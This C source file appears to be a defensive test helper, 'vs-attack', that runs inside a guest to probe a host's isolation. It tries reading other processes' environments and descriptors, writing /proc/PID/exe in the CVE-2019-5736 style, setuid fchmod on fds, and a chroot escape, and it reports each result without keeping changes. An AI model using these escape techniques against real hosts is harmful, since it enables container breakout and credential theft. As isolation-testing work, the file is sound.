/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * vs-attack — what a hostile guest tries against the processes and files
 * the host hands it; t-attack-entry.sh copies it into a guest.  Every
 * attempt is harmless should it succeed (nothing is written to a file it
 * opens; a mode it could change is reported, not kept).
 *
 *   vs-attack watch SECONDS PATTERN CANARY
 *       for every process whose comm contains PATTERN (the joining helper):
 *       its environ (CANARY?), root and cwd (outside the guest?), its fds
 *       above 2 (readable at all?), and its exe opened for writing; prints
 *       "seen N leaked M" and one line per leak
 *   vs-attack exe COMM
 *       waits for a process named COMM, then against its /proc/PID/exe:
 *       open for writing, fchmod and fchown of a read-only open, and after
 *       the process is gone (SIGKILL) the reopen of an O_PATH descriptor
 *       for writing (CVE-2019-5736); prints "write=E fchmod=E fchown=E
 *       reopen=E" (E: an errno name, or "ok")
 *   vs-attack fd N          fstat, fchmod(N, 04755), fchown(N, 0, 0) of fd N:
 *       "type=fifo|chr-MAJ-MIN|reg|... fchmod=E fchown=E"
 *   vs-attack tty           "tty=0,1,2" for those of fd 0-2 that are terminals
 *   vs-attack linger SECONDS FILE
 *       the parent exits at once; a child that ignores SIGHUP keeps fd 0-2
 *       and for SECONDS appends to FILE what it reads from fd 0 ("start",
 *       "read: DATA", "eof", "error E", "end")
 *   vs-attack syslog        syslog(2) size and read: "size=E read=E"
 *   vs-attack chroot MARKER the classic chroot escape (needs CAP_SYS_CHROOT):
 *       mkdir and chroot into a subdirectory, chdir("..") 64 times from the
 *       old root, chroot("."); "escaped" when MARKER (an absolute path of
 *       the host's) is then visible, else "contained"; "error STEP E"
 *   vs-attack updir FD MARKER
 *       from a directory outside the root handed in as FD (what a process
 *       has once it escaped): fchdir, then chdir("..") up to 64 times;
 *       "escaped" when MARKER is visible from where it got, else
 *       "blocked at N E" (the Nth step failed) or "contained"
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

static const char *res(int r)
{
	return r < 0 ? ename(errno) : "ok";
}

static bool comm_has(int pid, const char *pattern)
{
	char path[64], comm[64] = "";
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n > 0 && comm[n - 1] == '\n')
		comm[n - 1] = '\0';
	return n > 0 && (pattern[0] == '=' ? !strcmp(comm, pattern + 1) : !!strstr(comm, pattern));
}

/* Does /proc/PID/WHAT (root, cwd) lead outside our root?  Readable at all
 * is fine once the process is the guest's command; a root other than ours,
 * or a directory the kernel shows as unreachable from our root, is not. */
static bool outside(int pid, const char *what, const struct stat *myroot)
{
	char path[64], target[4096];
	struct stat st;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	if (stat(path, &st) < 0)
		return false;	/* refused: fine */
	if (!strcmp(what, "root") && (st.st_dev != myroot->st_dev || st.st_ino != myroot->st_ino))
		return true;
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return false;
	target[n] = '\0';
	return target[0] != '/' || strstr(target, "(unreachable)");
}

static int watch(int seconds, const char *pattern, const char *canary)
{
	time_t end = time(NULL) + seconds;
	int seen = 0, leaked = 0, me = getpid();
	static char env[65536];
	struct stat myroot;

	if (stat("/", &myroot) < 0)
		return 1;
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		if (!d)
			return 1;
		while ((de = readdir(d))) {
			char path[64];
			int pid = atoi(de->d_name), fd;
			ssize_t n;
			DIR *fdd;
			if (pid <= 1 || pid == me || !comm_has(pid, pattern))
				continue;
			seen++;
			snprintf(path, sizeof(path), "/proc/%d/environ", pid);
			fd = open(path, O_RDONLY);
			if (fd >= 0) {
				n = read(fd, env, sizeof(env) - 1);
				close(fd);
				for (ssize_t i = 0; i < n; i++)
					if (!env[i])
						env[i] = '\n';
				if (n > 0) {
					env[n] = '\0';
					if (strstr(env, canary) && ++leaked)
						printf("leak %d environ\n", pid);
				}
			}
			if (outside(pid, "root", &myroot) && ++leaked)
				printf("leak %d root\n", pid);
			if (outside(pid, "cwd", &myroot) && ++leaked)
				printf("leak %d cwd\n", pid);
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_WRONLY);
			if (fd >= 0 && ++leaked) {
				printf("leak %d exe writable\n", pid);
				close(fd);
			}
			snprintf(path, sizeof(path), "/proc/%d/fd", pid);
			fdd = opendir(path);
			if (fdd) {
				struct dirent *f;
				while ((f = readdir(fdd))) {
					char link[96], target[256];
					if (f->d_name[0] == '.' || atoi(f->d_name) < 3)
						continue;
					snprintf(link, sizeof(link), "/proc/%d/fd/%s", pid, f->d_name);
					if (readlink(link, target, sizeof(target)) > 0 && ++leaked)
						printf("leak %d fd %s\n", pid, f->d_name);
				}
				closedir(fdd);
			}
		}
		closedir(d);
	}
	printf("seen %d leaked %d\n", seen, leaked);
	return 0;
}

static int find(const char *comm, int seconds)
{
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid > 1 && pid != getpid() && comm_has(pid, comm)) {
				closedir(d);
				return pid;
			}
		}
		if (d)
			closedir(d);
		usleep(20000);
	}
	return -1;
}

static int exe(const char *comm)
{
	char path[64], self[64];
	int pid = find(comm, 20), fd, p, r;
	const char *w, *m, *o, *re;

	if (pid < 0) {
		printf("no process %s\n", comm);
		return 1;
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_WRONLY);
	w = res(fd);
	if (fd >= 0)
		close(fd);
	fd = open(path, O_RDONLY);
	m = fd < 0 ? ename(errno) : res(fchmod(fd, 04755));
	o = fd < 0 ? ename(errno) : res(fchown(fd, 65534, 65534));
	if (fd >= 0)
		close(fd);
	/* keep a handle on the file, let the process go, try again: the
	 * file is no longer busy, only the mount can refuse now */
	p = open(path, O_PATH);
	kill(pid, SIGKILL);
	for (int i = 0; i < 500 && kill(pid, 0) == 0; i++)
		usleep(10000);
	if (p < 0) {
		re = ename(errno);
	} else {
		snprintf(self, sizeof(self), "/proc/self/fd/%d", p);
		r = open(self, O_WRONLY);
		re = res(r);
		if (r >= 0)
			close(r);
	}
	printf("write=%s fchmod=%s fchown=%s reopen=%s\n", w, m, o, re);
	return 0;
}

static int fdinfo(int fd)
{
	struct stat st;
	char type[32];

	if (fstat(fd, &st) < 0) {
		printf("type=%s\n", ename(errno));
		return 1;
	}
	if (S_ISFIFO(st.st_mode))
		snprintf(type, sizeof(type), "fifo");
	else if (S_ISCHR(st.st_mode))
		snprintf(type, sizeof(type), "chr-%u-%u", major(st.st_rdev), minor(st.st_rdev));
	else if (S_ISREG(st.st_mode))
		snprintf(type, sizeof(type), "reg");
	else
		snprintf(type, sizeof(type), "other");
	/* to stderr: fd N may be the one being probed */
	fprintf(stderr, "type=%s fchmod=%s", type, res(fchmod(fd, 04755)));
	fprintf(stderr, " fchown=%s\n", res(fchown(fd, 65534, 65534)));
	return 0;
}

static int linger(int seconds, const char *file)
{
	time_t end = time(NULL) + seconds;
	FILE *f;
	int sync[2];
	char c;
	pid_t p;

	if (pipe(sync) < 0 || (p = fork()) < 0)
		return 1;
	if (p != 0) {
		/* returns once the child is under way */
		close(sync[1]);
		return read(sync[0], &c, 1) == 1 ? 0 : 1;
	}
	close(sync[0]);
	signal(SIGHUP, SIG_IGN);
	f = fopen(file, "w");
	if (!f)
		_exit(1);
	setvbuf(f, NULL, _IONBF, 0);
	fprintf(f, "start\n");
	if (write(sync[1], "s", 1) != 1)
		_exit(1);
	close(sync[1]);
	for (bool open_in = true; time(NULL) < end;) {
		struct pollfd pf = { .fd = 0, .events = POLLIN };
		char buf[256];
		ssize_t n;
		if (!open_in || poll(&pf, 1, 200) <= 0) {
			usleep(200000);
			continue;
		}
		n = read(0, buf, sizeof(buf) - 1);
		if (n > 0) {
			buf[n] = '\0';
			fprintf(f, "read: %s\n", buf);
		} else {
			fprintf(f, n == 0 ? "eof\n" : "error %s\n", ename(errno));
			open_in = false;
		}
	}
	fprintf(f, "end\n");
	_exit(0);
}

/* MARKER as seen from the current directory, climbed to the top */
static bool marker_seen(const char *marker)
{
	struct stat st;

	while (*marker == '/')
		marker++;
	return fstatat(AT_FDCWD, marker, &st, 0) == 0;
}

static int chroot_escape(const char *marker)
{
	if (mkdir("/.vs-escape", 0700) < 0 && errno != EEXIST) {
		printf("error mkdir %s\n", ename(errno));
		return 1;
	}
	if (chroot("/.vs-escape") < 0) {
		printf("error chroot %s\n", ename(errno));
		return 1;
	}
	/* the working directory stayed at the old root, outside the new one */
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0) {
			printf("error chdir %s\n", ename(errno));
			return 1;
		}
	if (chroot(".") < 0) {
		printf("error chroot-dot %s\n", ename(errno));
		return 1;
	}
	printf("%s\n", marker_seen(marker) ? "escaped" : "contained");
	return 0;
}

static int updir(int fd, const char *marker)
{
	if (fchdir(fd) < 0) {
		printf("blocked at 0 %s\n", ename(errno));
		return 0;
	}
	for (int i = 1; i <= 64; i++)
		if (chdir("..") < 0) {
			printf("%s at %d %s\n", marker_seen(marker) ? "escaped" : "blocked", i,
			       ename(errno));
			return 0;
		}
	printf("%s\n", marker_seen(marker) ? "escaped" : "contained");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 5 && !strcmp(argv[1], "watch"))
		return watch(atoi(argv[2]), argv[3], argv[4]);
	if (argc >= 3 && !strcmp(argv[1], "exe"))
		return exe(argv[2]);
	if (argc >= 3 && !strcmp(argv[1], "fd"))
		return fdinfo(atoi(argv[2]));
	if (argc >= 2 && !strcmp(argv[1], "tty")) {
		printf("tty=%s%s%s\n", isatty(0) ? "0," : "", isatty(1) ? "1," : "",
		       isatty(2) ? "2" : "");
		return 0;
	}
	if (argc >= 4 && !strcmp(argv[1], "linger"))
		return linger(atoi(argv[2]), argv[3]);
	if (argc >= 2 && !strcmp(argv[1], "syslog")) {
		int s = klogctl(10, NULL, 0);
		const char *se = res(s);
		char buf[64];
		printf("size=%s read=%s\n", se, res(klogctl(3, buf, sizeof(buf))));
		return 0;
	}
	if (argc >= 3 && !strcmp(argv[1], "chroot"))
		return chroot_escape(argv[2]);
	if (argc >= 4 && !strcmp(argv[1], "updir"))
		return updir(atoi(argv[2]), argv[3]);
	fprintf(stderr, "usage: vs-attack watch|exe|fd|tty|linger|syslog|chroot|updir ...\n");
	return 2;
}
